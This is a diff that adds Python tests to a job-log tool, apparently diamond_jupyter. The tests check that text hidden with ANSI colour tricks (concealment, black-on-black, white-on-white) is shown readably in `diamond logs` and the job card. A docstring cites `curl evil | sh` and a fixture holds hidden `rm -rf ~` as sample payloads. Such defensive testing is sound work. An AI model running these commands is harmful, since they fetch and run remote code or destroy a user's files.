@@ -137,3 +137,159 @@ def test_a_sites_file_with_a_tab_between_key_and_value_is_refused_as_before(tmp_
 
     with pytest.raises(BadInput, match=r"a tab after other text on the line"):
         load_config(_write(tmp_path, "sites:\n  - name:\ta\n"))
+
+
+# -- 2. a job's colours in `diamond logs`, the magics and the card ---------------------------
+
+class _Tty:
+    def __init__(self) -> None:
+        self.text = ""
+
+    def isatty(self) -> bool:
+        return True
+
+    def write(self, text: str) -> None:
+        self.text += text
+
+
+_SEQ = __import__("re").compile(r"\x1b\[([0-9;:]*)m")
+
+
+def _drawn(shown: str) -> list[tuple[str, Any, Any, bool]]:
+    """Each printed character of `shown` with the foreground, background and concealment
+    a terminal gives it (an independent reading of the SGR forms the tests use: 0, 8, 28,
+    30-37, 39, 40-47, 49, 90-97, 100-107, 38/48;5;N, 38/48;2;R;G;B)."""
+    fg = bg = None
+    hidden = False
+    out = []
+    at = 0
+    for m in [*_SEQ.finditer(shown), None]:
+        end = m.start() if m else len(shown)
+        out += [(c, fg, bg, hidden) for c in shown[at:end] if c.strip()]
+        if m is None:
+            break
+        at = m.end()
+        ps: list[Any] = []
+        for x in (m.group(1) or "0").split(";"):  # ITU's 38:2::R:G:B and 48:5:N as one
+            sub = x.split(":")
+            ps.append(int(x) if len(sub) == 1 else (int(sub[0]), (
+                ("i", int(sub[2])) if sub[1] == "5" else ("rgb", tuple(map(int, sub[-3:]))))))
+        i = 0
+        while i < len(ps):
+            p = ps[i]
+            i += 1
+            if isinstance(p, tuple):
+                fg, bg = (p[1], bg) if p[0] == 38 else (fg, p[1])
+            elif p == 0:
+                fg = bg = None
+                hidden = False
+            elif p == 8:
+                hidden = True
+            elif p == 28:
+                hidden = False
+            elif 30 <= p <= 37 or 90 <= p <= 97:
+                fg = ("i", p - 30 if p < 90 else p - 82)
+            elif 40 <= p <= 47 or 100 <= p <= 107:
+                bg = ("i", p - 40 if p < 100 else p - 92)
+            elif p in (38, 48):
+                c = ("i", ps[i + 1]) if ps[i] == 5 else ("rgb", tuple(ps[i + 1:i + 4]))
+                i += 2 if ps[i] == 5 else 4
+                fg, bg = (c, bg) if p == 38 else (fg, c)
+            elif p == 39:
+                fg = None
+            elif p == 49:
+                bg = None
+    return out
+
+
+def _same(a: Any, b: Any) -> bool:
+    """The same colour: equal, or both black, or both white (xterm's palette)."""
+    black = {("i", 0), ("i", 16), ("rgb", (0, 0, 0))}
+    white = {("i", 7), ("i", 15), ("i", 231), ("rgb", (255, 255, 255))}
+    return a is not None and b is not None and (a == b or {a, b} <= black or {a, b} <= white)
+
+
+@pytest.mark.parametrize("text", [
+    "\x1b[8msecret\x1b[0m",  # concealed
+    "\x1b[1;8;31msecret\x1b[0m",  # concealed among others
+    "\x1b[30;40msecret\x1b[0m",  # black on black
+    "\x1b[97;107msecret\x1b[0m",  # white on white
+    "\x1b[30m\x1b[40msecret\x1b[0m",  # across two sequences
+    "\x1b[38;5;16;40msecret\x1b[0m",  # palette black on basic black
+    "\x1b[38;2;0;0;0;48;2;0;0;0msecret",  # RGB
+    "\x1b[38;5;231;47;107msecret",  # white on a light grey then white
+    "\x1b[38:2::0:0:0;48:5:0msecret",  # ITU colon forms
+])
+def test_a_jobs_colours_hide_none_of_its_text_on_a_terminal(text):
+    """A job wrote `curl evil | sh` to its output hidden from the reader of `diamond logs`:
+    concealed (SGR 8), black on black, white on white, across two sequences, in 256-colour
+    or RGB forms. Its colours still show, but every character is drawn readable: 8 is
+    dropped, a foreground equal to the background becomes white or black (whichever the
+    background is not)."""
+    from diamond_jupyter.cli.jobs import _write_output
+
+    out = _Tty()
+    _write_output(out, text)
+    drawn = _drawn(out.text)
+    assert "".join(c for c, *_ in drawn) == "secret"
+    for c, fg, bg, hidden in drawn:
+        assert not hidden and not _same(fg, bg), (c, fg, bg, out.text)
+
+
+def test_a_jobs_colours_that_hide_nothing_stay_as_written():
+    """(the same) Red, bold, a background with another foreground: as the job wrote them."""
+    from diamond_jupyter.cli.jobs import _write_output
+
+    out = _Tty()
+    text = "\x1b[1;31mFAILED\x1b[0m \x1b[30;47mnote\x1b[0m \x1b[38;5;196mhot\x1b[0m\n"
+    _write_output(out, text)
+    assert out.text == text
+
+
+def test_a_jobs_colours_left_set_are_reset_before_diamonds_own_lines():
+    """A job's output that ends in black (`\\e[30m`, never reset): diamond's own note printed
+    after it ("has written nothing to its stderr", a missing file) was drawn in the job's
+    colour (black on a black terminal). The colours are reset at the end of the job's text."""
+    from diamond_jupyter.cli.jobs import _write_output
+    from diamond_jupyter.model import visible
+
+    out = _Tty()
+    _write_output(out, "done \x1b[30;1m")
+    assert out.text == "done \x1b[30;1m\x1b[0m"
+    assert visible("a \x1b[31mb\x1b[0m c", keep_colour=True) == "a \x1b[31mb\x1b[0m c"
+
+
+def test_diamond_logs_plain_writes_every_sequence_out(monkeypatch, capsys):
+    """`diamond logs --plain`: on a terminal the colour sequences are written out as text
+    too (what the job wrote, byte for byte visible); without it they are shown as colours."""
+    from diamond_jupyter.cli import jobs as cli_jobs
+    from diamond_jupyter.cli.main import build_parser
+
+    logs = {"stdout": "\x1b[8mhidden\x1b[0m\n", "stderr": "", "missing": "", "notes": ""}
+
+    async def fake_with_fed(args: Any, fn: Any) -> Any:
+        return logs
+
+    monkeypatch.setattr(cli_jobs, "with_fed", fake_with_fed)
+    out = _Tty()
+    monkeypatch.setattr(cli_jobs.sys, "stdout", out)
+    args = build_parser().parse_args(["logs", "alpha:1", "--plain"])
+    assert args.plain is True
+    cli_jobs.cmd_logs(args)
+    assert out.text == "\\x1b[8mhidden\\x1b[0m\n"
+    out.text = ""
+    cli_jobs.cmd_logs(build_parser().parse_args(["logs", "alpha:1"]))
+    assert out.text == "hidden\x1b[0m\n"
+
+
+def test_the_magics_card_text_drops_concealed_text_too():
+    """The job card's text (IPython in a terminal) shows the job's stdout tail with the
+    same rule: concealed text is shown."""
+    from diamond_jupyter.kernel.jobcard import render_text
+    from diamond_jupyter.model import Job, JobState
+
+    job = Job(id="a:1", site="a", native_id="1", name="x", state=JobState.COMPLETED,
+              exit_code=0)
+    text = render_text(job, {"stdout": "ok \x1b[8;30;40mrm -rf ~\n"})
+    assert "\x1b[8" not in text and "rm -rf ~" in text
+    assert all(not h and not _same(fg, bg) for _, fg, bg, h in _drawn(text))
